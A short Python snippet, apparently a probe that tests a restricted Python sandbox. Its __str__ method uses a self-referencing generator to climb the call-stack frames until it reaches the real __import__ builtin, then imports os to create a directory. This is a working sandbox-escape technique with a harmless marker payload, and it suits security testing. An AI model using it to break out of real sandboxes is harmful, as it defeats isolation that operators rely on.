# Lets the game's print ask an object for its text, and climbs from there through the frames of print.
class Gift:
    def __str__(self):
        climber = (climber.gi_frame for climber in line)
        line.append(climber)
        frame = next(climber)
        while frame:
            if "__import__" in frame.f_builtins:
                frame.f_builtins["__import__"]("os").mkdir(FOLDER + "/made")
                break
            frame = frame.f_back
        return "a gift"


line = []
print(Gift())
